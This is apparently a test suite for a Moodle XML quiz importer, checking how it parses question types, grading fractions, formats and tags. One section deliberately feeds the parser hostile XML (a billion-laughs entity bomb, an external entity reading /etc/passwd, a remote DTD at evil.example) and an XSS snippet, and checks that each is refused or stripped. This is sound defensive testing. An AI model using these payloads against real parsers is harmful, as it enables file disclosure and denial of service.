// Moodle XML, rule by rule, as Moodle's question/format/xml/format.php reads it, and the documents that are
// refused before any parsing (billion laughs, external entities).
import fc from 'fast-check';
import { parseMoodleXml } from '../../server/items/formats/moodle-xml-parse';
import type { ParsedQuestion } from '../../server/items/formats/questions';

const quiz = (...questions: string[]) =>
  `<?xml version="1.0" encoding="UTF-8"?>\n<quiz>\n${questions.join('\n')}\n</quiz>`;
const text = (value: string) => `<text>${value}</text>`;
const answer = (fraction: string, value: string, feedback = '', format = '') =>
  `<answer fraction="${fraction}"${format ? ` format="${format}"` : ''}>${text(value)}${feedback ? `<feedback>${text(feedback)}</feedback>` : ''}</answer>`;
const multichoice = (body: string, { name = 'Q1', stem = 'Which?', format = 'html', extra = '' } = {}) =>
  `<question type="multichoice"><name>${text(name)}</name><questiontext format="${format}">${text(stem)}</questiontext>${extra}${body}</question>`;

function questions(source: string): ParsedQuestion[] {
  const parsed = parseMoodleXml(source);
  if ('problem' in parsed) throw new Error(parsed.problem);
  return parsed.questions;
}
const only = (source: string) => {
  const list = questions(source);
  expect(list).toHaveLength(1);
  return list[0]!;
};
const draftOf = (source: string) => {
  const question = only(source);
  if (!question.draft) throw new Error(`no draft: ${question.problem}`);
  return question.draft;
};
const fileProblem = (source: string) => {
  const parsed = parseMoodleXml(source);
  if (!('problem' in parsed)) throw new Error('the file was read');
  return parsed.problem;
};

describe('multichoice', () => {
  const three = answer('100', 'a', 'Right because.') + answer('0', 'b', 'Not b.') + answer('0', 'c');

  it('when <single> is missing, then the question is single-answer and the answer at 100 is right', () => {
    const question = only(
      quiz(multichoice(three, { extra: '<generalfeedback><text>General.</text></generalfeedback>' })),
    );
    expect(question.draft).toMatchObject({ key: 'Q1', type: 'single', stem: 'Which?', correct: ['A'] });
    expect(question.draft!.options.map((o) => o.text)).toEqual(['a', 'b', 'c']);
    expect(question.draft!.rationale).toBe('General.\n\nRight because.');
    expect(question.notes).toEqual([expect.stringMatching(/wrong answers is left out/)]);
  });

  it.each([
    ['false', 'multiple'],
    ['0', 'multiple'],
    ['', 'multiple'],
    ['true', 'single'],
    ['no', 'single'],
    ['1', 'single'],
  ])(
    'when <single> is "%s", then the question is %s (only false, 0 or empty mean several answers)',
    (single, type) => {
      const answers =
        type === 'multiple' ? answer('50', 'a') + answer('50', 'b') + answer('-100', 'c') : three;
      expect(draftOf(quiz(multichoice(`<single>${single}</single>${answers}`))).type).toBe(type);
    },
  );

  it('when a single-answer question has no answer at 100, then it is refused', () => {
    expect(only(quiz(multichoice(answer('0', 'a') + answer('0', 'b')))).problem).toMatch(
      /No answer is marked right/,
    );
  });

  it('when a single-answer question gives partial credit, then it is refused', () => {
    expect(only(quiz(multichoice(answer('100', 'a') + answer('50', 'b')))).problem).toMatch(/partial credit/);
  });

  it('when the positive fractions of a multiple-answer question are 33.33333 ×3, then they add up (Moodle’s rounding); 33.33 is refused', () => {
    const third = (f: string) =>
      multichoice(
        `<single>false</single>${answer(f, 'a')}${answer(f, 'b')}${answer(f, 'c')}${answer('-100', 'd')}`,
      );
    expect(draftOf(quiz(third('33.33333'))).correct).toEqual(['A', 'B', 'C']);
    expect(only(quiz(third('33.33'))).problem).toMatch(/33\.33% .* not one Moodle allows/);
  });

  it('when the positive fractions do not add up to 100, or are not on Moodle’s grid, then it is refused', () => {
    const add = `<single>false</single>${answer('50', 'a')}${answer('20', 'b')}${answer('0', 'c')}`;
    expect(only(quiz(multichoice(add))).problem).toMatch(/add up to 70%/);
    const grid = `<single>false</single>${answer('37', 'a')}${answer('63', 'b')}${answer('0', 'c')}`;
    expect(only(quiz(multichoice(grid))).problem).toMatch(/37% .* not one Moodle allows/);
    const nan = `<single>false</single>${answer('lots', 'a')}${answer('0', 'b')}`;
    expect(only(quiz(multichoice(nan))).problem).toMatch(/not a number/);
  });

  it('when a multiple-answer question has no positive fraction, then there is no correct answer', () => {
    const none = `<single>false</single>${answer('0', 'a')}${answer('-50', 'b')}`;
    expect(only(quiz(multichoice(none))).problem).toMatch(/No answer is marked right/);
  });
});

describe('truefalse', () => {
  const tf = (answers: string) =>
    `<question type="truefalse"><name>${text('TF')}</name><questiontext format="html">${text('The sky is blue.')}</questiontext><generalfeedback>${text('General.')}</generalfeedback>${answers}</question>`;

  it('when the answer "false" has fraction 100, then False (B) is right and its feedback joins the rationale', () => {
    const question = only(
      quiz(tf(answer('0', 'true', 'Wrong, it is false.') + answer('100', 'false', 'Right.'))),
    );
    expect(question.draft).toMatchObject({
      type: 'true_false',
      correct: ['B'],
      rationale: 'General.\n\nRight.',
    });
    expect(question.draft!.options).toEqual([
      { id: 'A', text: 'True' },
      { id: 'B', text: 'False' },
    ]);
  });

  it('when the answers are named in another order, then they are matched by name', () => {
    expect(draftOf(quiz(tf(answer('100', 'false') + answer('0', 'true')))).correct).toEqual(['B']);
  });

  it('when the answers are not named true/false (an old localised export), then the first is true, as Moodle reads it', () => {
    const question = only(quiz(tf(answer('100', 'Vrai') + answer('0', 'Faux'))));
    expect(question.draft!.correct).toEqual(['A']);
    expect(question.notes).toEqual([expect.stringMatching(/first was taken as true/)]);
  });

  it('when neither or both answers have fraction 100, then it is refused', () => {
    expect(only(quiz(tf(answer('0', 'true') + answer('0', 'false')))).problem).toMatch(/Exactly one/);
    expect(only(quiz(tf(answer('100', 'true') + answer('100', 'false')))).problem).toMatch(/Exactly one/);
  });
});

describe('texts and formats', () => {
  it('when the format is html (or missing or unknown), then the HTML becomes Markdown; scripts and handlers are dropped', () => {
    const html =
      '<![CDATA[<p>Pick <strong>one</strong><script>alert(1)</script><img src=x onerror=alert(1)></p>]]>';
    for (const format of ['html', 'unknown_format']) {
      expect(
        draftOf(quiz(multichoice(answer('100', 'a') + answer('0', 'b'), { stem: html, format }))).stem,
      ).toBe('Pick **one**');
    }
    const noFormat = quiz(
      `<question type="multichoice"><name>${text('n')}</name><questiontext>${text(html)}</questiontext>${answer('100', 'a')}${answer('0', 'b')}</question>`,
    );
    expect(draftOf(noFormat).stem).toBe('Pick **one**');
  });

  it('when HTML is escaped with entities instead of CDATA, then it is decoded once (&amp;lt; stays a literal "<")', () => {
    const stem = '&lt;p&gt;5 &amp;lt; 6 &amp;amp; caf&#233; &#x1F600;&lt;/p&gt;';
    expect(draftOf(quiz(multichoice(answer('100', 'a') + answer('0', 'b'), { stem }))).stem).toBe(
      '5 \\< 6 & café 😀',
    );
  });

  it('when the format is markdown, then the text is kept as written (trimmed); plain_text is escaped', () => {
    const md = quiz(
      multichoice(answer('100', 'a') + answer('0', 'b'), {
        stem: '  **x** & <y>  ',
        format: 'markdown',
      }).replace('  **x** & <y>  ', '<![CDATA[  **x** & <y>  ]]>'),
    );
    expect(draftOf(md).stem).toBe('**x** & <y>');
    const plain = quiz(
      multichoice(answer('100', 'a') + answer('0', 'b'), {
        stem: '*x* &amp; &lt;y&gt;',
        format: 'plain_text',
      }),
    );
    expect(draftOf(plain).stem).toBe('\\*x\\* & \\<y>');
  });

  it('when answers have no format, then they take the question text’s; an answer’s own format wins', () => {
    const answers = answer('100', '**a**') + answer('0', '&lt;b&gt;b&lt;/b&gt;', '', 'html');
    expect(draftOf(quiz(multichoice(answers, { format: 'markdown' }))).options.map((o) => o.text)).toEqual([
      '**a**',
      '**b**',
    ]);
  });
});

describe('names, categories and tags', () => {
  const q = (name: string, extra = '') => multichoice(answer('100', 'a') + answer('0', 'b'), { name, extra });

  it('when a category precedes questions, then its last part names their objective; a tag objective: wins', () => {
    const list = questions(
      quiz(
        q('before'),
        '<question type="category"><category><text>$course$/top/Renal/O2</text></category></question>',
        q('in O2'),
        q('tagged', '<tags><tag><text>objective:O4</text></tag></tags>'),
        '<question type="category"><category><text>$course$/top/Default for Renal</text></category></question>',
        q('after'),
      ),
    );
    expect(list.map((question) => [question.name, question.objective])).toEqual([
      ['before', null],
      ['in O2', { code: 'O2', from: 'category' }],
      ['tagged', { code: 'O4', from: 'tag' }],
      ['after', null],
    ]);
  });

  it('when tags name a section and references, then the draft carries them', () => {
    const tags =
      '<tags><tag><text>section:etiology</text></tag><tag><text>reference:3</text></tag><tag><text>reference:7</text></tag></tags>';
    expect(draftOf(quiz(q('n', tags)))).toMatchObject({ sectionSlug: 'etiology', references: [3, 7] });
  });

  it('when a question has no name, then it is refused (Moodle requires one)', () => {
    expect(only(quiz(q(''))).problem).toMatch(/no name/);
  });

  it.each(['shortanswer', 'essay', 'numerical', 'matching', 'cloze', 'description', 'ddwtos'])(
    'when the type is %s, then it is refused as unsupported',
    (type) => {
      const question = only(
        quiz(
          `<question type="${type}"><name>${text('x')}</name><questiontext>${text('?')}</questiontext></question>`,
        ),
      );
      expect(question.problem).toMatch(new RegExp(`“${type}” question: only multichoice`));
    },
  );
});

describe('documents refused as a whole', () => {
  it('when the root is not <quiz>, or the XML is not well-formed, then the file is refused with the reason', () => {
    expect(fileProblem('<questions></questions>')).toMatch(/root element is <questions>/);
    expect(fileProblem('<quiz><question></quiz>')).toMatch(/not well-formed XML: .*line 1/);
    expect(fileProblem('not xml at all')).toMatch(/not well-formed|no XML element/);
  });

  const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 ${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('\n ')}
]>
<quiz><question type="multichoice"><name><text>&lol9;</text></name></question></quiz>`;

  const external = `<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<quiz><question type="multichoice"><name><text>&xxe;</text></name></question></quiz>`;

  const parameterEntity = `<?xml version="1.0"?><!doctype quiz [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]><quiz/>`;

  it.each([
    ['a billion laughs', billionLaughs],
    ['an external entity', external],
    ['a parameter entity (lower-case doctype)', parameterEntity],
    ['an entity declaration alone', '<quiz><!ENTITY a "b"></quiz>'],
  ])(
    'when the document holds %s, then it is refused in well under a second, nothing expanded',
    (_name, source) => {
      const started = process.hrtime.bigint();
      const problem = fileProblem(source);
      const ms = Number(process.hrtime.bigint() - started) / 1e6;
      expect(problem).toMatch(/declares a document type or entities/);
      expect(ms).toBeLessThan(100);
    },
  );

  it('when elements nest absurdly deep, then the file is refused quickly instead of exhausting the stack', () => {
    const deep = `<quiz>${'<a>'.repeat(5000)}${'</a>'.repeat(5000)}</quiz>`;
    const started = Date.now();
    expect(fileProblem(deep)).toMatch(/cannot be read as XML|not well-formed/);
    expect(Date.now() - started).toBeLessThan(1000);
  });
});

describe('any document', () => {
  it('whatever the file holds, then the reader never throws: the file, or each question, is read or refused with a reason', () => {
    const piece = fc.oneof(
      fc.constantFrom(
        '<quiz>',
        '</quiz>',
        '<question type="multichoice">',
        '<question type="truefalse">',
        '</question>',
        '<name><text>n</text></name>',
        '<answer fraction="100"><text>a</text></answer>',
        '<answer fraction="x">',
        '</answer>',
        '<single>false</single>',
        '<![CDATA[<p>',
        ']]>',
        '&amp;',
        '&lt;',
        '&#0;',
        '&#x110000;',
        '<text>',
        '</text>',
        '<tags><tag><text>objective:O1</text></tag></tags>',
        '<!--',
        '-->',
      ),
      fc.string({ unit: 'grapheme', maxLength: 5 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), (parts) => {
        const parsed = parseMoodleXml(`<quiz>${parts.join('')}</quiz>`);
        if ('problem' in parsed) return expect(parsed.problem).toMatch(/\S/);
        for (const question of parsed.questions)
          expect((question.draft === null) !== (question.problem === null)).toBe(true);
      }),
      { numRuns: 2000 },
    );
  });
});
